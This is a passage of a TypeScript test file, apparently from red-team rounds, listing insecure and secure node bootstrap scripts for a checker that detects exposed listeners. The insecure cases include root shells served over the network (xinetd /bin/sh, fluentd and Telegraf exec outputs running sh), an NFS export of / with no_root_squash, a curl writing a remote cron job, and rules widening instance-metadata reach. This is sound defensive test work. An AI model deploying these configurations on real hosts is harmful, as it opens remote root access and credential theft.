    dev(
        "NFS export of / rw,no_root_squash to every host",
        script("dev-nsec49-rt80n", [
            "dnf install -y nfs-utils",
            ...file("/etc/exports", ["/ *(rw,no_root_squash,insecure)"]),
            "systemctl enable --now nfs-server",
        ]),
    ),
    // docs.fluentd.org out_exec: "The program receives the path to a file containing the incoming events as its last
    // argument": `sh FILE` runs the records, which in_http on 0.0.0.0:9880 takes from any pod, as a root shell script.
    // Was a MISS (fixed in round 80): AGENT-INGEST-TO-EXEC (insecure accepted, got []): logAgents.ts fluentd() pushes
    // out_exec's `command sh` as
    // a command line only (reading.commands) and joins network inputs to file outputs alone (reading.fileOutputs); the
    // records handed to the command are not judged. Fix (general): an exec output (fluentd out_exec/out_exec_filter,
    // Telegraf outputs.exec/execd) of an agent with a network input hands that input's content to its program: refuse
    // unless the program is one the pack knows treats its input as data (an allowlist: tee/logger into a judged path);
    // an interpreter (sh, bash, python, ruby, perl, node) is a shell served on the input's bind.
    dev(
        "fluentd: in_http 0.0.0.0:9880 -> out_exec command sh (records become a root shell script)",
        script(
            "dev-nsec50-rt80n",
            fluentd([
                "<source>",
                "  @type http",
                "  bind 0.0.0.0",
                "  port 9880",
                "</source>",
                "<match **>",
                "  @type exec",
                "  command sh",
                "  <format>",
                "    @type single_value",
                "  </format>",
                "</match>",
            ]),
        ),
    ),
    // Telegraf outputs.exec README: "This plugin sends telegraf metrics to an external application over stdin": sh
    // reads the metrics (the measurement names and tags any pod POSTs to http_listener_v2 on :8080) as commands, as
    // root.
    // Was a MISS (fixed in round 80): AGENT-INGEST-TO-EXEC (insecure accepted, got []): logAgents.ts telegraf() reads
    // outputs.exec's command as
    // a command line, telegrafPlugins joins network inputs to outputs.file only. Fix as dev-nsec50.
    dev(
        "telegraf (root): http_listener_v2 :8080 -> outputs.exec command sh",
        script(
            "dev-nsec51-rt80n",
            telegrafRoot([
                "[[inputs.http_listener_v2]]",
                '  service_address = ":8080"',
                "[[outputs.exec]]",
                '  command = ["sh"]',
                '  data_format = "influx"',
            ]),
        ),
    ),
    // xinetd.conf(5): a service without `bind` listens on every address; server /bin/sh, user root: a root shell.
    dev(
        "xinetd service of /bin/sh on port 8080",
        script("dev-nsec52-rt80n", [
            "dnf install -y xinetd",
            ...file("/etc/xinetd.d/ops", [
                "service ops",
                "{",
                "    type        = UNLISTED",
                "    port        = 8080",
                "    socket_type = stream",
                "    wait        = no",
                "    user        = root",
                "    server      = /bin/sh",
                "}",
            ]),
            "systemctl enable --now xinetd",
        ]),
    ),
    // Python getopt (pydoc cli(): getopt.getopt(sys.argv[1:], 'bk:n:p:w')): `-n0.0.0.0` is -n with value 0.0.0.0, as
    // dev-nsec22 (refused).
    // Was a MISS (fixed in round 80): UNREAD-SERVER-BIND-SPELLING (insecure accepted, got []): pydoc is not read;
    // unreadListeners/commandLineAddresses (commandServers.ts) find `-n 0.0.0.0` (dev-nsec22, refused) but strip only
    // `-x=` prefixes, so getopt's glued `-n0.0.0.0` is no address. Fix (general): read a server module's options by
    // its parser (pydoc: getopt 'bk:n:p:w', -p serves on -n, default localhost), or, for an unread program, take glued
    // short-option values too.
    dev(
        "python3 -m pydoc -n0.0.0.0 -p8080 (getopt glued values)",
        script("dev-nsec53-rt80n", ["nohup python3 -m pydoc -n0.0.0.0 -p8080 >/dev/null 2>&1 &"]),
    ),
    // pydoc -n '': http.server with host "" binds INADDR_ANY (socketserver: the empty string is every address).
    // Was a MISS (fixed in round 80): UNREAD-SERVER-BIND-SPELLING (insecure accepted, got []): an empty host word
    // (every address) is not an
    // address to commandLineAddresses. Fix as dev-nsec53: an unread server's host option that is empty or computed (a
    // substitution) binds beyond loopback.
    dev(
        "python3 -m pydoc -n '' -p 8080 (an empty host: every address)",
        script("dev-nsec54-rt80n", ["nohup python3 -m pydoc -n '' -p 8080 >/dev/null 2>&1 &"]),
    ),
    // hostname(1) -i: the node's own address, which every pod reaches.
    // Was a MISS (fixed in round 81): UNREAD-SERVER-BIND-SPELLING (insecure accepted, got []): the host is a command substitution the pack does
    // not compute; fix as dev-nsec53.
    // Still open (round 80): the shell reader hands the substitution on as its SUBSTITUTED mark, which a variable
    // (`dnf install -y "$pkg"`) becomes too; counting it after any short option refused 15 earlier secure cases. The
    // fix needs pydoc's own options read (getopt 'bk:n:p:w': -n is the host -p serves on).
    // Fixed in round 81 (listeners.ts pydocHosts): pydoc's options read by its own getopt 'bk:n:p:w': with -p, any -n
    // value but a loopback literal (SUBSTITUTED included) is beyond loopback; no rule for every short option.
    dev(
        'python3 -m pydoc -n "$(hostname -i)" -p 8080 (the node\'s own address)',
        script("dev-nsec55-rt80n", ['nohup python3 -m pydoc -n "$(hostname -i)" -p 8080 >/dev/null 2>&1 &']),
        /./,
    ),
    // Neighbour (round 80): getopt's glued value computed by the shell, -n"$(hostname -i)": the node's own address
    // (listeners.ts unreadOptionValue, unknownHostValue).
    // Still open (round 80): the shell reader hands the substitution on as its SUBSTITUTED mark, which a variable
    // (`dnf install -y "$pkg"`) becomes too; counting it after any short option refused 15 earlier secure cases. The
    // fix needs pydoc's own options read (getopt 'bk:n:p:w': -n is the host -p serves on).
    // Fixed in round 81 (listeners.ts pydocHosts): pydoc's options read by its own getopt 'bk:n:p:w': with -p, any -n
    // value but a loopback literal (SUBSTITUTED included) is beyond loopback; no rule for every short option.
    dev(
        'python3 -m pydoc -n"$(hostname -i)" -p8080 (glued, computed host) -fix80',
        script("dev-nsec64-fix80", ['nohup python3 -m pydoc -n"$(hostname -i)" -p8080 >/dev/null 2>&1 &']),
        /./,
    ),
    // Neighbours (round 81, pydoc's getopt 'bk:n:p:w'): a host from a variable the shell fills at boot (instance
    // metadata's local-ipv4: the node's address) is beyond loopback; -n localhost (pydoc's default, in the secure
    // list) is not.
    dev(
        'python3 -m pydoc -n "$IP" -p 8080 (IP from instance metadata) -fix81',
        script("dev-nsec81a-fix81", [
            "IP=$(curl -s http://169.254.169.254/latest/meta-data/local-ipv4)",
            'nohup python3 -m pydoc -n "$IP" -p 8080 >/dev/null 2>&1 &',
        ]),
        /./,
    ),
    // docs.fluentd.org out_exec_filter: "passes the incoming event to the program input": sh runs what any pod POSTs
    // to in_http, as root.
    // Was a MISS (fixed in round 80): AGENT-INGEST-TO-EXEC (insecure accepted, got []): as dev-nsec50,
    // out_exec_filter (records on stdin).
    dev(
        "fluentd: in_http 0.0.0.0:9880 -> out_exec_filter command sh (records on sh's stdin)",
        script(
            "dev-nsec56-rt80n",
            fluentd([
                "<source>",
                "  @type http",
                "  bind 0.0.0.0",
                "  port 9880",
                "</source>",
                "<match **>",
                "  @type exec_filter",
                "  command sh",
                "  tag ops",
                "  <format>",
                "    @type single_value",
                "  </format>",
                "  <parse>",
                "    @type none",
                "  </parse>",
                "</match>",
            ]),
        ),
    ),
    // Telegraf outputs.execd: a long-running command fed metrics on stdin: sh runs them.
    // Was a MISS (fixed in round 80): AGENT-INGEST-TO-EXEC (insecure accepted, got []): as dev-nsec51, outputs.execd.
    dev(
        "telegraf (root): http_listener_v2 :8080 -> outputs.execd command sh",
        script(
            "dev-nsec57-rt80n",
            telegrafRoot([
                "[[inputs.http_listener_v2]]",
                '  service_address = ":8080"',
                "[[outputs.execd]]",
                '  command = ["sh"]',
                '  data_format = "influx"',
            ]),
        ),
    ),
    // Neighbour (round 80): docs.fluentd.org out_exec: the program gets the events' file as its last argument;
    // python3 runs that file as a script: whatever any pod sends in_forward on 24224 (every address by default) runs
    // as root (logAgents.ts execOutputs, rootReads.ts agentExecOutputs).
    dev(
        "fluentd: in_forward (default bind) -> out_exec command python3 -fix80",
        script(
            "dev-nsec62-fix80",
            fluentd([
                "<source>",
                "  @type forward",
                "</source>",
                "<match **>",
                "  @type exec",
                "  command python3",
                "  <format>",
                "    @type single_value",
                "  </format>",
                "</match>",
            ]),
        ),
    ),
    // Neighbour (round 80): Telegraf processors/execd "pipes metrics in to the process's STDIN": bash reads the
    // metrics socket_listener takes on tcp://:8094 as commands, as root.
    dev(
        "telegraf (root): socket_listener tcp://:8094 -> processors.execd command bash -fix80",
        script(
            "dev-nsec63-fix80",
            telegrafRoot([
                "[[inputs.socket_listener]]",
                '  service_address = "tcp://:8094"',
                "[[processors.execd]]",
                '  command = ["bash"]',
                "[[outputs.file]]",
                '  files = ["/var/log/telegraf/metrics.out"]',
            ]),
        ),
    ),
    // A FlagSet parsing words from the environment (-addr=:8080): every address.
    dev(
        'go: fs := flag.NewFlagSet; fs.Parse(strings.Split(os.Getenv("OPS_FLAGS"), " ")), OPS_FLAGS=-addr=:8080',
        goApp(
            "dev-nsec58-rt80n",
            [
                'fs := flag.NewFlagSet("ops", flag.ExitOnError)',
                'addr := fs.String("addr", "127.0.0.1:8080", "listen address")',
                'fs.Parse(strings.Split(os.Getenv("OPS_FLAGS"), " "))',
                GO_SERVE,
            ],
            "OPS_FLAGS=-addr=:8080 nohup go run . >/var/log/ops.log 2>&1 &",
            ['"flag"', '"net/http"', '"os"', '"strings"'],
        ),
    ),
    // Neighbour (round 80): the backgrounded list's own writes stay judged in its directory (bash(1) "Lists": the
    // subshell starts in the script's state): curl writes /etc/cron.d/ops with content others choose.
    dev(
        "a backgrounded `cd /etc/cron.d && curl -o ops URL &` list (writes a root cron job) -fix80",
        script("dev-nsec65-fix80", ["cd /etc/cron.d && curl -fsSL http://example.com/job -o ops &"]),
    ),
    // Round 81 neighbours (SOCKET-PROXYD-BIND): systemd.socket(5) "Service=: Specifies the service unit name to activate
    // on incoming traffic"; systemd-socket-proxyd(8) serves every socket it is passed: a second socket unit on every
    // address activating the same service exposes the loopback server.
    dev(
        "socket: ops.socket on 127.0.0.1:8081 and wide.socket (Service=ops.service) on 8082 -fix81",
        script("dev-nsec-wide-fix81", [
            KUBE_LO,
            ...file("/etc/systemd/system/wide.socket", ["[Socket]", "ListenStream=8082", "Service=ops.service"]),
            ...socketUnit(["ListenStream=127.0.0.1:8081"], [], "127.0.0.1:8001"),
            "systemctl enable --now wide.socket",
        ]),
        /systemd-socket-proxyd/,
    ),
    // A socket unit whose text the pack cannot read (a download) may listen anywhere: fail closed.
    dev(
        "socket: a downloaded ops.socket activating systemd-socket-proxyd to a loopback server -fix81",
        script("dev-nsec-dl-fix81", [
            KUBE_LO,
            "curl -fsSL -o /etc/systemd/system/ops.socket https://ops.example.com/ops.socket",
            ...file("/etc/systemd/system/ops.service", [
                "[Service]",
                "ExecStart=/usr/lib/systemd/systemd-socket-proxyd 127.0.0.1:8001",
            ]),
            "systemctl daemon-reload",
            "systemctl enable --now ops.socket",
        ]),
        /served beyond loopback by \/usr\/lib\/systemd\/systemd-socket-proxyd/,
    ),
    // Round 81 neighbours (TTL): iptables-extensions(8) TTL "--ttl-set value", "--ttl-inc value": a set above 1 or an
    // increment lets instance metadata's answer cross the pod hop.
    dev(
        "iptables mangle TTL --ttl-set 2 on instance metadata's replies -fix81",
        script("dev-nsec-ttl2-fix81", ["iptables -t mangle -A PREROUTING -s 169.254.169.254/32 -j TTL --ttl-set 2"]),
        /TTL|hop limit/,
    ),
    dev(
        "iptables mangle TTL --ttl-inc 1 on instance metadata's replies -fix81",
        script("dev-nsec-ttlinc-fix81", ["iptables -t mangle -A PREROUTING -s 169.254.169.254/32 -j TTL --ttl-inc 1"]),
        /TTL|hop limit/,
    ),
];

const secure: NodeCase[] = [
    // Node.js: localhost resolves to a loopback address (dns.lookup): loopback only.
    dev("node: listen(8081, 'localhost')", nodeApp("dev-nsec1s-rt80n", ['server.listen(8081, "localhost");'])),
    // Node.js net server.listen(options): "If port is specified, it behaves the same as server.listen([port[, host]])
    // ... Otherwise, if path is specified, it behaves the same as server.listen(path)"; "If host is omitted, the
    // server will accept connections on the unspecified IPv6 address (::)": no port key, a unix socket under /run.
    dev(
        "node: listen({ path: '/run/ops.sock' }) (no port key)",
        nodeApp("dev-nsec2s-rt80n", ['server.listen({ path: "/run/ops.sock", readableAll: false });']),
    ),
    // ::1 is the IPv6 loopback (RFC 4291): loopback only.
    dev(
        "node: listen({ port: 8081, host: '::1' })",
        nodeApp("dev-nsec3s-rt80n", ['server.listen({ port: 8081, host: "::1" });']),
    ),
    // pkg.go.dev flag.String: the default 127.0.0.1:8080 holds when no -addr is given.
    dev(
        "go: flag default loopback, flag.Parse(), no -addr given",
        goApp(
            "dev-nsec4s-rt80n",
            [GO_ADDR, "\tflag.Parse()", `\t${GO_SERVE}`],
            "nohup go run . >/var/log/ops.log 2>&1 &",
        ),
    ),
    // Reading os.Args[0] changes nothing flag.Parse reads.
    dev(
        "go: os.Args read (not written) before Parse",
        goApp(
            "dev-nsec5s-rt80n",
            [GO_ADDR, '\tlog.Printf("starting %s", os.Args[0])', "\tflag.Parse()", `\t${GO_SERVE}`],
            "nohup go run . >/var/log/ops.log 2>&1 &",
            ['"flag"', '"log"', '"net/http"', '"os"'],
        ),
    ),
    // systemd.socket(5) BindToDevice=lo from a drop-in: only the loopback interface; the proxied /etc/kubernetes
    // server stays node-local.
    // Was a MISS (fixed in round 81): SOCKET-PROXYD-BIND-IGNORED (secure refused: "served beyond loopback by /usr/lib/systemd/systemd-socket-
    // proxyd 127.0.0.1:8001"): relays.ts forwarders() takes systemd-socket-proxyd's listener as every address ("its
    // socket unit's address, not joined here"), though listeners.ts reads socket units (ListenStream=,
    // BindToDevice=lo, drop-ins). Fix (general): join a socket-activated service (the socket's Service= or same-named
    // unit) to its socket's ListenStream=/BindToDevice= and judge the relay by that bind.
    // Round 81: relays.ts loopbackJoin/socketActivatedListens joins systemd-socket-proxyd (Forwarder.socketActivated)
    // to the Listen addresses of the socket units activating its service (systemd.ts socketShellOpenings `activates`).
    dev(
        "socket: ListenStream=8081 with BindToDevice=lo in a drop-in",
        script("dev-nsec6s-rt80n", [
            KUBE_LO,
            ...socketUnit(["ListenStream=8081"], ["BindToDevice=lo"], "127.0.0.1:8001"),
        ]),
    ),
    // systemd.socket(5): the drop-in's empty ListenStream= resets the list, 127.0.0.1:8081 is the only listener.
    // Was a MISS (fixed in round 81): SOCKET-PROXYD-BIND-IGNORED (secure refused, as dev-nsec6s).
    // Round 81: relays.ts loopbackJoin/socketActivatedListens joins systemd-socket-proxyd (Forwarder.socketActivated)
    // to the Listen addresses of the socket units activating its service (systemd.ts socketShellOpenings `activates`).
    dev(
        "socket: ListenStream=0.0.0.0:8081 reset by a drop-in to ListenStream=127.0.0.1:8081",
        script("dev-nsec7s-rt80n", [
            KUBE_LO,
            ...socketUnit(
                ["ListenStream=0.0.0.0:8081"],
                ["ListenStream=", "ListenStream=127.0.0.1:8081"],
                "127.0.0.1:8001",
            ),
        ]),
    ),
    // systemd.socket(5): an address starting with / is an AF_UNIX socket (SocketMode=0600): no network.
    dev(
        "socket: ListenStream=/run/ops.sock (a file system socket)",
        script("dev-nsec8s-rt80n", socketUnit(["ListenStream=/run/ops.sock", "SocketMode=0600"])),
    ),
    // A loopback bind with route_localnet off (the default): martian to every other interface.
    dev(
        "loopback /etc/kubernetes server, route_localnet left 0, DNAT to a pod-facing service absent",
        script("dev-nsec9s-rt80n", [KUBE_LO, "sysctl -w net.ipv4.conf.all.route_localnet=0"]),
    ),
    // Tightening metadata options (tokens required, hop limit 1): nothing widens; the node role cannot even call it
    // (AmazonEKSWorkerNodePolicy has no ec2:ModifyInstanceMetadataOptions).
    dev(
        "aws ec2 modify-instance-metadata-options --http-tokens required --http-put-response-hop-limit 1",
        script("dev-nsec10s-rt80n", [
            'ID=$(ec2-metadata -i | cut -d" " -f2)',
            'aws ec2 modify-instance-metadata-options --instance-id "$ID" --http-tokens required --http-put-response-hop-limit 1',
        ]),
    ),
    // docs.python.org pydoc: "By default the hostname is 'localhost'".
    // Round 81 neighbour (listeners.ts pydocHosts): -n localhost is pydoc's default host, loopback only.
    dev(
        "python3 -m pydoc -n localhost -p 8080 -fix81",
        script("dev-nsec81b-fix81", ["nohup python3 -m pydoc -n localhost -p 8080 >/dev/null 2>&1 &"]),
    ),
    dev(
        "python3 -m pydoc -p 8080 (default hostname localhost)",
        script("dev-nsec11s-rt80n", ["nohup python3 -m pydoc -p 8080 >/dev/null 2>&1 &"]),
    ),
    // fluentd debug_agent bind 127.0.0.1 (in_debug_agent.rb bind parameter): loopback only.
    dev(
        "fluentd: debug_agent bind 127.0.0.1 in an @include'd file",
        script(
            "dev-nsec13s-rt80n",
            fluentd(["@include conf.d/*.conf"], "/etc/fluent/fluentd.conf", [
                ...file("/etc/fluent/conf.d/debug.conf", [
                    "<source>",
                    "  @type debug_agent",
                    "  bind 127.0.0.1",
                    "</source>",
                ]),
            ]),
        ),
    ),
    // Fluent Bit forward Listen 127.0.0.1: only node-local senders; the file output goes to /var/log/ops.
    dev(
        "fluent bit: forward Listen 127.0.0.1 -> file /var/log/ops",
        script(
            "dev-nsec14s-rt80n",
            fluentBit([
                "[INPUT]",
                "    Name   forward",
                "    Listen 127.0.0.1",
                "[OUTPUT]",
                "    Name   file",
                "    Match  *",
                "    Path   /var/log/ops",
            ]),
        ),
    ),
    // The node role's managed policies (AmazonEKSWorkerNodePolicy, AmazonEC2ContainerRegistryReadOnly,
    // AmazonEKS_CNI_Policy) grant no ec2:ModifyInstanceMetadataOptions: the call is denied (as redteam77-node D16).
    dev(
        "aws ec2 modify-instance-metadata-options --http-tokens optional (denied: the node role lacks the action)",
        script("dev-nsec15s-rt80n", [
            'ID=$(ec2-metadata -i | cut -d" " -f2)',
            'aws ec2 modify-instance-metadata-options --instance-id "$ID" --http-tokens optional',
        ]),
    ),
    // Node.js net server.listen(options): "If port is specified, it behaves the same as server.listen([port[, host]])
    // ... Otherwise, if path is specified, it behaves the same as server.listen(path)"; "If host is omitted, the
    // server will accept connections on the unspecified IPv6 address (::)": no port key, so host is ignored: a unix
    // socket.
    dev(
        "node: listen({ host: '0.0.0.0', path: '/run/ops.sock' }) (no port: a unix socket)",
        nodeApp("dev-nsec16s-rt80n", ['server.listen({ host: "0.0.0.0", path: "/run/ops.sock" });']),
    ),
    // Node.js listen(path): a non-numeric string is a pipe name: a unix socket.
    dev("node: listen('/run/ops.sock')", nodeApp("dev-nsec17s-rt80n", ['server.listen("/run/ops.sock");'])),
    // strings.TrimSpace only trims white space: the address stays 127.0.0.1:8080.
    // MISS: GO-ADDR-REWRITE-PRESERVING (secure refused: "go run . on *"): commandServers.ts listenAddressUnknown makes
    // any assignment to the flag's variable unknown. Fail-closed by design; fix (narrow, optional): assignments whose
    // right side is the variable through functions that keep its host (strings.TrimSpace, TrimSuffix of a port) keep
    // its value.
    // DECIDED (round 80): left fail closed (time): a rewrite of the flag's value keeps the address unknown.
    dev(
        "go: *addr = strings.TrimSpace(*addr) after Parse (still the loopback default)",
        goApp(
            "dev-nsec18s-rt80n",
            [GO_ADDR, "\tflag.Parse()", "\t*addr = strings.TrimSpace(*addr)", `\t${GO_SERVE}`],
            "nohup go run . >/var/log/ops.log 2>&1 &",
            ['"flag"', '"net/http"', '"strings"'],
        ),
        /./,
        true,
    ),
    // The built binary with no -addr: the loopback default.
    dev(
        "go: built to /usr/local/bin/ops, ExecStart=/usr/local/bin/ops (loopback default)",
        script("dev-nsec19s-rt80n", [
            ...file("/opt/ops/go.mod", GO_MOD),
            ...file("/opt/ops/main.go", [
                "package main",
                "",
                'import (\n\t"flag"\n\t"net/http"\n)',
                "",
                "func main() {",
                GO_ADDR,
                "\tflag.Parse()",
                `\t${GO_SERVE}`,
                "}",
            ]),
            "cd /opt/ops && go build -o /usr/local/bin/ops .",
            ...systemdUnit("ops", ["ExecStart=/usr/local/bin/ops"]),
        ]),
    ),
    // rsyncd.conf(5) `address = 127.0.0.1`: loopback only; a read-only module of /var/backups.
    dev(
        "rsync --daemon, address = 127.0.0.1, read-only module of /var/backups",
        script("dev-nsec20s-rt80n", [
            ...file("/etc/rsyncd.conf", [
                "address = 127.0.0.1",
                "[backups]",
                "    path = /var/backups",
                "    read only = yes",
            ]),
            "systemctl enable --now rsyncd",
        ]),
    ),
    // No network input: outputs.exec gets only inputs.cpu's metrics (numbers the kernel gives).
    dev(
        "telegraf (root): inputs.cpu -> outputs.exec command tee -a /var/log/telegraf/m.log",
        script(
            "dev-nsec21s-rt80n",
            telegrafRoot([
                "[[inputs.cpu]]",
                "[[outputs.exec]]",
                '  command = ["tee", "-a", "/var/log/telegraf/m.log"]',
            ]),
        ),
    ),
    // iptables-extensions TTL --ttl-set 1 on IMDS replies: forwarded to a pod they expire (TTL 0): it only tightens
    // the hop limit.
    // Was a MISS (fixed in round 81): IMDS-NAMED-NOT-ROUTED (secure refused: "has a root process of the node relay or route to instance
    // metadata"): relays.ts judges an iptables/nft rule naming 169.254.169.254 as a relay whatever its target. Fix
    // (general): read the rule's target: DNAT/REDIRECT/TPROXY to IMDS and TTL increases relay; DROP/REJECT and TTL set
    // 1 or decrements only restrict.
    // Round 81: relays.ts lowersHopLimit (a TTL/HL target only setting at most 1 or decrementing), read by rootWrites.ts
    // for both the hop-limit rule and the IMDS relay rule.
    dev(
        "iptables mangle TTL --ttl-set 1 on instance metadata's replies (tightens, never widens)",
        script("dev-nsec22s-rt80n", ["iptables -t mangle -A PREROUTING -s 169.254.169.254/32 -j TTL --ttl-set 1"]),
    ),
    // A FORWARD DROP of 169.254.169.254: pods cannot reach instance metadata at all.
    dev(
        "iptables: drop forwarded traffic to 169.254.169.254 (pods cannot reach instance metadata)",
        script("dev-nsec23s-rt80n", ["iptables -I FORWARD -d 169.254.169.254/32 -j DROP"]),
    ),
    // php -S 127.0.0.1: loopback only, docroot /usr/share/doc (packaged, read-only documentation).
    dev(
        "php -S 127.0.0.1:8080 -t /usr/share/doc",
        script("dev-nsec12s-rt80n", ["nohup php -S 127.0.0.1:8080 -t /usr/share/doc >/dev/null 2>&1 &"]),
    ),
    // MASQUERADE of eth0's outbound traffic: no listener, no route to loopback or IMDS (control for dev-nsec25s).
    dev(
        "iptables -t nat MASQUERADE of eth0 (control for dev-nsec25s)",
        script("dev-nsec24s-rt80n", ["iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE"]),
    ),
    // bash(1) Lists: "If a command is terminated by the control operator &, the shell executes the command
    // asynchronously in a subshell": the whole `cd ... && nohup ... &` list runs in a subshell, so the script's
    // directory stays /; the iptables line is the control's.
    // Was a MISS (fixed in round 80): BACKGROUND-LIST-CD (secure refused: "writes /etc/kubernetes/nat with content the pack cannot read"):
    // rootReads.ts keeps the `cd` of an and-or list terminated by `&` as a possible working directory of the script,
    // though the whole list ran in a subshell. Fix (general): a list (or pipeline) terminated by & changes nothing of
    // the script's state (cwd set, variables, umask, set -e), like ( ... ).
    dev(
        "a backgrounded `cd /etc/kubernetes && ... &` list, then iptables -t nat (the cd ran in a subshell)",
        script("dev-nsec25s-rt80n", [KUBE_LO, "iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE"]),
    ),
    // pydoc -n 127.0.0.1: loopback only.
    dev(
        "python3 -m pydoc -n 127.0.0.1 -p8080",
        script("dev-nsec26s-rt80n", ["nohup python3 -m pydoc -n 127.0.0.1 -p8080 >/dev/null 2>&1 &"]),
    ),
    // systemd.socket(5): ListenStream=127.0.0.1:8081 binds loopback only, so the proxyd relay of the loopback server
    // stays node-local.
    // Was a MISS (fixed in round 81): SOCKET-PROXYD-BIND-IGNORED (secure refused, as dev-nsec6s): even ListenStream=127.0.0.1:8081 in the unit
    // file.
    // Round 81: relays.ts loopbackJoin/socketActivatedListens joins systemd-socket-proxyd (Forwarder.socketActivated)
    // to the Listen addresses of the socket units activating its service (systemd.ts socketShellOpenings `activates`).
    dev(
        "socket: ListenStream=127.0.0.1:8081 proxying a loopback /etc/kubernetes server",
        script("dev-nsec27s-rt80n", [KUBE_LO, ...socketUnit(["ListenStream=127.0.0.1:8081"], [], "127.0.0.1:8001")]),
    ),
    // route_localnet without a DNAT rule: no packet from a pod is addressed to 127.0.0.1 (pods' packets to 127/8 stay
    // in their own network namespace).
    dev(
        "route_localnet=1 without any DNAT rule (nothing routes outside traffic to loopback)",
        script("dev-nsec28s-rt80n", ["sysctl -w net.ipv4.conf.all.route_localnet=1", KUBE_LO]),
    ),
    // Neighbour (round 80): pkg.go.dev flag (*FlagSet).Parse: CommandLine.Parse(os.Args[1:]) parses the command line
    // as flag.Parse() does; none is given, so addr keeps its loopback default.
    dev(
        "go: flag.CommandLine.Parse(os.Args[1:]), no -addr given -fix80",
        goApp(
            "dev-nsec29s-fix80",
            [GO_ADDR, "\tflag.CommandLine.Parse(os.Args[1:])", `\t${GO_SERVE}`],
            "nohup go run . >/var/log/ops.log 2>&1 &",
            ['"flag"', '"net/http"', '"os"'],
        ),
    ),
    // Neighbour (round 80): Telegraf outputs/exec README's own example, command = ["tee", "-a", "/dev/null"]: tee
    // copies the metrics it is fed as data into /dev/null; nothing runs them.
    dev(
        'telegraf (root): http_listener_v2 127.0.0.1:8080 -> outputs.exec ["tee", "-a", "/dev/null"] -fix80',
        script(
            "dev-nsec30s-fix80",
            telegrafRoot([
                "[[inputs.http_listener_v2]]",
                '  service_address = "127.0.0.1:8080"',
                "[[outputs.exec]]",
                '  command = ["tee", "-a", "/dev/null"]',
                '  data_format = "influx"',
            ]),
        ),
    ),
    // Neighbour (round 80): getopt's glued -n127.0.0.1 (pydoc cli(): -n names the host -p serves on): loopback only.
    dev(
        "python3 -m pydoc -n127.0.0.1 -p8080 (glued loopback host) -fix80",
        script("dev-nsec31s-fix80", ["nohup python3 -m pydoc -n127.0.0.1 -p8080 >/dev/null 2>&1 &"]),
    ),
    // Neighbour (round 80): bash(1) "Lists": an and-or list holding a pipeline, ended by `&`, runs in a subshell as a
    // whole: the later relative write (iptables -t nat names a table, no file) stays where the script was.
    dev(
        "a backgrounded `cd /etc/kubernetes && ls | logger &` list, then iptables -t nat -fix80",
        script("dev-nsec32s-fix80", [
            "cd /etc/kubernetes && ls | logger -t ops &",
            "iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE",
        ]),
    ),
    // Round 81 neighbours (SOCKET-PROXYD-BIND, TTL): a socket named otherwise whose Service= is the proxy's unit
    // (systemd.socket(5) Service=), on loopback only; TTL --ttl-dec and ip6tables HL --hl-set 1 (iptables-extensions(8)
    // TTL, HL) only lower the hop count.
    dev(
        "socket: web.socket (Service=ops.service) on 127.0.0.1:8081 proxying a loopback server -fix81",
        script("dev-nsec-svc-fix81", [
            KUBE_LO,
            ...file("/etc/systemd/system/web.socket", [
                "[Socket]",
                "ListenStream=127.0.0.1:8081",
                "Service=ops.service",
                "[Install]",
                "WantedBy=sockets.target",
            ]),
            ...file("/etc/systemd/system/ops.service", [
                "[Service]",
                "ExecStart=/usr/lib/systemd/systemd-socket-proxyd 127.0.0.1:8001",
            ]),
            "systemctl daemon-reload",
            "systemctl enable --now web.socket",
        ]),
    ),
    dev(
        "iptables mangle TTL --ttl-dec 1 on instance metadata's replies -fix81",
        script("dev-nsec-ttldec-fix81", ["iptables -t mangle -A PREROUTING -s 169.254.169.254/32 -j TTL --ttl-dec 1"]),
    ),
    dev(
        "ip6tables mangle HL --hl-set 1 on instance metadata's IPv6 replies -fix81",
        script("dev-nsec-hl1-fix81", ["ip6tables -t mangle -A PREROUTING -s fd00:ec2::254/128 -j HL --hl-set 1"]),
    ),
];

describeNodeCases("red team 80 nsec: node listeners and services", insecure, secure);
